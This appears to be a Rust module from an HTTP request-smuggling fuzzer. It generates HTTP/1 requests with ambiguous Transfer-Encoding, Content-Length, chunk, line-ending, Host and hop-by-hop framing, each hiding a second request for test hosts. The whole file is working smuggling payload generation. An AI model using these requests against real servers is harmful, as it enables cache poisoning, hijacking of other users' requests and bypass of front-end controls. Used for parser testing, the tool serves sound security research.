//! HTTP/1 requests that two parsers could read differently, derived by putting each doubtful byte and word into
//! each doubtful place.

use std::collections::BTreeSet;

/// What a client sends on one connection before it sends an innocent request.
#[derive(Debug, Clone)]
pub struct Mutation {
    /// The family, for the table.
    pub kind: &'static str,
    /// What comes at once.
    pub bytes: Vec<u8>,
    /// Whether these are the frames of HTTP/2.
    pub is_h2: bool,
}

/// Bytes that parsers have trimmed, skipped, or taken for an end.
const DOUBTFUL: [u8; 40] = [
    0x00, 0x01, 0x02, 0x03, 0x04, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x0E, 0x0F,
    0x10, 0x1A, 0x1B, 0x1C, 0x1F, 0x20, 0x22, 0x27, 0x2C, 0x2D, 0x2E, 0x30, 0x3A, 0x3B, 0x5C, 0x5F,
    0x7F, 0x80, 0x85, 0x9F, 0xA0, 0xAD, 0xE2, 0xFF,
];

/// Values of Transfer-Encoding that some take for chunked.
const CODINGS: [&str; 34] = [
    "chunked",
    "Chunked",
    "CHUNKED",
    "chunked, identity",
    "identity, chunked",
    "chunked,",
    ",chunked",
    ", chunked",
    "chunked, chunked",
    "chunked;q=1",
    "\"chunked\"",
    "'chunked'",
    "xchunked",
    "chunkedx",
    "x chunked",
    "chunked x",
    "gzip, chunked",
    "chunked, gzip",
    "identity",
    "cow",
    "chunk",
    "chunked\r\n ",
    "\r\n chunked",
    "\r\n\tchunked",
    "chunked\r\nTransfer-Encoding: x",
    "x\r\nTransfer-Encoding: chunked",
    "chunked\r\nTransfer-Encoding: chunked",
    "chunked\r\ntransfer-encoding: identity",
    "",
    "\x00",
    "[chunked]",
    "chun ked",
    "deflate",
    "chunked\r\nContent-Length: 0",
];

/// Values of Content-Length that some read as a number; `N` stands for the one that fits.
const LENGTHS: [&str; 40] = [
    "+N",
    "-N",
    "0N",
    "00N",
    "N,N",
    "N, N",
    "N ,N",
    ",N",
    "N,",
    "0xN",
    "N.0",
    "Ne0",
    "N;",
    "N x",
    "x N",
    "\"N\"",
    "'N'",
    "N\r\nContent-Length: N",
    "N\r\nContent-Length: 0",
    "0\r\nContent-Length: N",
    "N\r\ncontent-length: 1",
    "N\r\n ",
    "\r\n N",
    "\r\n\tN",
    "N\t",
    "\tN",
    "0, N",
    "N, 0",
    "N 0",
    "N_0",
    "1_N",
    "18446744073709551616",
    "18446744073709551615",
    "9223372036854775808",
    "4294967296",
    "-1",
    "-0",
    "",
    "N\r\nX: x\r\nContent-Length: 0",
    "0000000000000000000000000000N",
];

/// All of them; `{id}` in a target is put in when it is sent.
#[must_use]
pub fn all() -> Vec<Mutation> {
    let mut all = Mutations(Vec::new());
    all.codings();
    all.lengths();
    all.chunks();
    all.lines();
    all.targets();
    all.connection();
    all.bodies();
    let mut known = BTreeSet::new();
    all.0
        .retain(|mutation| known.insert(mutation.bytes.clone()));
    all.0
}

struct Mutations(Vec<Mutation>);

const SMUGGLED: &str = "GET /s{id} HTTP/1.1\r\nHost: s.test\r\n\r\n";

impl Mutations {
    fn add(&mut self, kind: &'static str, text: &str) {
        let bytes = crate::octets::bytes(text).unwrap_or_default();
        self.0.push(Mutation {
            kind,
            bytes,
            is_h2: false,
        });
    }

    /// A coding line beside a length: whoever takes the length sees one request, whoever takes chunks two.
    fn codings(&mut self) {
        let mut lines: Vec<String> = CODINGS
            .iter()
            .flat_map(|coding| {
                [
                    format!("Transfer-Encoding: {coding}"),
                    format!("transfer-encoding:{coding}"),
                ]
            })
            .collect();
        for byte in DOUBTFUL.map(char::from) {
            lines.push(format!("{byte}Transfer-Encoding: chunked"));
            lines.push(format!("Transfer{byte}Encoding: chunked"));
            lines.push(format!("Transfer-Encoding{byte}: chunked"));
            lines.push(format!("Transfer-Encoding:{byte}chunked"));
            lines.push(format!("Transfer-Encoding: chunked{byte}"));
            lines.push(format!("X: x{byte}Transfer-Encoding: chunked"));
        }
        for line in lines {
            let inner = format!("0\r\n\r\n{SMUGGLED}");
            let length = fitting(&inner);
            self.add(
                "CL.TE",
                &post(&format!("Content-Length: {length}\r\n{line}"), &inner),
            );
            let chunk = format!("{:x}\r\n{SMUGGLED}\r\n0\r\n\r\n", fitting(SMUGGLED));
            self.add(
                "TE.CL",
                &post(&format!("Content-Length: 4\r\n{line}"), &chunk),
            );
            self.add("TE.0", &post(&line, &format!("0\r\n\r\n{SMUGGLED}")));
        }
    }

    fn lengths(&mut self) {
        let length = fitting(SMUGGLED);
        let mut lines: Vec<String> = LENGTHS
            .iter()
            .map(|value| {
                format!(
                    "Content-Length: {}",
                    value.replace('N', &length.to_string())
                )
            })
            .collect();
        for byte in DOUBTFUL.map(char::from) {
            lines.push(format!("{byte}Content-Length: {length}"));
            lines.push(format!("Content{byte}Length: {length}"));
            lines.push(format!("Content-Length{byte}: {length}"));
            lines.push(format!("Content-Length:{byte}{length}"));
            lines.push(format!("Content-Length: {length}{byte}"));
            lines.push(format!("X: x{byte}Content-Length: {length}"));
        }
        for line in lines {
            self.add("CL", &post(&line, SMUGGLED));
            self.add(
                "CL.CL",
                &post(&format!("Content-Length: 0\r\n{line}"), SMUGGLED),
            );
            let get = format!("GET /m{{id}} HTTP/1.1\r\nHost: a.test\r\n{line}\r\n\r\n{SMUGGLED}");
            self.add("CL.0", &get);
        }
    }

    fn chunks(&mut self) {
        let size = format!("{:x}", fitting(SMUGGLED));
        let mut bodies = Vec::new();
        for byte in DOUBTFUL.map(char::from) {
            for line in [
                format!("{byte}{size}\r\n"),
                format!("{size}{byte}\r\n"),
                format!("{size}{byte}1\r\n"),
                format!("{size};{byte}\r\n"),
                format!("{size};a=\"{byte}\"\r\n"),
                format!("{size}\r{byte}"),
                format!("{size}{byte}\n"),
            ] {
                bodies.push(format!("{line}{SMUGGLED}\r\n0\r\n\r\n"));
            }
            bodies.push(format!("{size}\r\n{SMUGGLED}{byte}\n0\r\n\r\n"));
            bodies.push(format!("{size}\r\n{SMUGGLED}\r{byte}0\r\n\r\n"));
            bodies.push(format!("{size}\r\n{SMUGGLED}\r\n0{byte}\r\n\r\n"));
            bodies.push(format!("0\r\n{byte}\r\n{SMUGGLED}"));
            bodies.push(format!("0\r\nX: x{byte}\r\n\r\n{SMUGGLED}"));
            bodies.push(format!("0\r\nX{byte}: x\r\n\r\n{SMUGGLED}"));
        }
        for prefix in [
            "0x",
            "0X",
            "+",
            "-",
            "_",
            "00000000000000",
            "f000000000000000",
            "10000000000000000",
            "100000000",
        ] {
            bodies.push(format!("{prefix}{size}\r\n{SMUGGLED}\r\n0\r\n\r\n"));
        }
        for trailer in [
            "Host: s.test",
            "Content-Length: 60",
            "Transfer-Encoding: chunked",
            "GET /s{id} HTTP/1.1",
            "Connection: close",
            "X: x\r\n y",
        ] {
            bodies.push(format!("0\r\n{trailer}\r\n\r\n{SMUGGLED}"));
        }
        for body in bodies {
            self.add("chunks", &post("Transfer-Encoding: chunked", &body));
        }
    }

    /// Ends of lines, folded lines, and lines that hide others.
    fn lines(&mut self) {
        for end in [
            "\n", "\r", "\n\r", "\r\r\n", "\r\n ", "\r\n\t", "\r\n\x0b", "\x0b\r\n", "\x0c\r\n",
            "\x00\r\n", "\r\n\r", "\r \n", "\r\n\x00", "\u{85}",
        ] {
            let length = fitting(SMUGGLED);
            for text in [
                format!(
                    "POST /m{{id}} HTTP/1.1{end}Host: a.test\r\nContent-Length: {length}\r\n\r\n{SMUGGLED}"
                ),
                format!(
                    "POST /m{{id}} HTTP/1.1\r\nHost: a.test{end}Content-Length: {length}\r\n\r\n{SMUGGLED}"
                ),
                format!(
                    "POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\nX: x{end}Content-Length: {length}\r\n\r\n{SMUGGLED}"
                ),
                format!(
                    "POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\nContent-Length: {length}{end}\r\n\r\n{SMUGGLED}"
                ),
                format!(
                    "POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\nContent-Length: {length}\r\n{end}{SMUGGLED}"
                ),
                format!("POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\nX: x{end}{end}{SMUGGLED}"),
                format!(
                    "{end}POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\nContent-Length: {length}\r\n\r\n{SMUGGLED}"
                ),
            ] {
                self.add("line ends", &text);
            }
        }
    }

    fn targets(&mut self) {
        for byte in DOUBTFUL.map(char::from) {
            for line in [
                format!("GET /m{{id}}{byte}HTTP/1.1"),
                format!("GET{byte}/m{{id}} HTTP/1.1"),
                format!("GET /m{{id}} HTTP/1.1{byte}"),
                format!("GET /m{{id}}{byte}HTTP/1.1{byte}X HTTP/1.1"),
                format!("{byte}GET /m{{id}} HTTP/1.1"),
            ] {
                self.add("request line", &format!("{line}\r\nHost: a.test\r\n\r\n"));
            }
            self.add(
                "Host",
                &format!("GET /m{{id}} HTTP/1.1\r\nHost: a.test{byte}\r\n\r\n"),
            );
            self.add(
                "Host",
                &format!("GET /m{{id}} HTTP/1.1\r\nHost: a.test\r\nHost{byte}: b.test\r\n\r\n"),
            );
        }
        for line in [
            "http://b.test/m{id}",
            "https://b.test/m{id}",
            "http://u@b.test/m{id}",
            "//b.test/m{id}",
            "/m{id}#x",
            "/../m{id}",
            "/%2e%2e/m{id}",
            "/m{id}%0d%0aX:%20x",
            "/m{id}\\..\\x",
            "b.test/m{id}",
        ] {
            self.add(
                "Host",
                &format!("GET {line} HTTP/1.1\r\nHost: a.test\r\n\r\n"),
            );
        }
        for version in [
            "HTTP/1.0",
            "HTTP/0.9",
            "HTTP/1.2",
            "HTTP/2.0",
            "HTTP/1.10",
            "http/1.1",
            "HTTP/1.1 x",
            "",
            "HTTP/1",
        ] {
            for framing in [
                "Content-Length: 5",
                "Transfer-Encoding: chunked",
                "Connection: keep-alive\r\nTransfer-Encoding: chunked",
                "Content-Length: 5\r\nTransfer-Encoding: chunked",
            ] {
                let text = format!(
                    "POST /m{{id}} {version}\r\nHost: a.test\r\n{framing}\r\n\r\n0\r\n\r\n{SMUGGLED}"
                );
                self.add("version", &text);
            }
        }
    }

    /// What is for one connection only, named so that a hop could drop what frames the message.
    fn connection(&mut self) {
        let inner = format!("0\r\n\r\n{SMUGGLED}");
        for name in [
            "Content-Length",
            "Transfer-Encoding",
            "Host",
            "Connection",
            "X-Forwarded-For",
            "Expect",
            "close",
            "keep-alive",
            "Upgrade",
            "TE",
            "Trailer",
        ] {
            for framing in [
                format!("Content-Length: {}", fitting(&inner)),
                "Transfer-Encoding: chunked".to_owned(),
            ] {
                self.add(
                    "hop by hop",
                    &post(&format!("Connection: {name}\r\n{framing}"), &inner),
                );
                self.add(
                    "hop by hop",
                    &post(
                        &format!("{framing}\r\nConnection: x, {name}\r\nProxy-Connection: {name}"),
                        &inner,
                    ),
                );
            }
        }
        for upgrade in [
            "websocket",
            "h2c",
            "HTTP/2.0",
            "TLS/1.2",
            "x",
            "websocket, x",
        ] {
            for framing in [
                format!("Content-Length: {}", fitting(SMUGGLED)),
                "Transfer-Encoding: chunked".to_owned(),
                String::from("X: x"),
            ] {
                self.add("upgrade", &post(&format!("Connection: Upgrade\r\nUpgrade: {upgrade}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n{framing}"), SMUGGLED));
            }
        }
    }

    /// Bodies where few expect one, and bodies that somebody waits for.
    fn bodies(&mut self) {
        let length = fitting(SMUGGLED);
        for method in [
            "GET", "HEAD", "OPTIONS", "DELETE", "TRACE", "PUT", "PATCH", "PROPFIND", "get",
            "CONNECT", "X",
        ] {
            for head in [
                format!("Content-Length: {length}"),
                "Transfer-Encoding: chunked".to_owned(),
                format!("Expect: 100-continue\r\nContent-Length: {length}"),
                format!("Expect: 100-Continue\r\nContent-Length: {length}"),
                format!("Expect: x\r\nContent-Length: {length}"),
                format!("X-HTTP-Method-Override: GET\r\nContent-Length: {length}"),
                format!("Content-Encoding: gzip\r\nContent-Length: {length}"),
                "X: x".to_owned(),
            ] {
                self.add(
                    "bodies",
                    &format!(
                        "{method} /m{{id}} HTTP/1.1\r\nHost: a.test\r\n{head}\r\n\r\n{SMUGGLED}"
                    ),
                );
            }
        }
    }
}

/// The length of a body once the id of five digits stands in it.
fn fitting(body: &str) -> usize {
    body.replace("{id}", "12345").len()
}

fn post(fields: &str, body: &str) -> String {
    format!("POST /m{{id}} HTTP/1.1\r\nHost: a.test\r\n{fields}\r\n\r\n{body}")
}
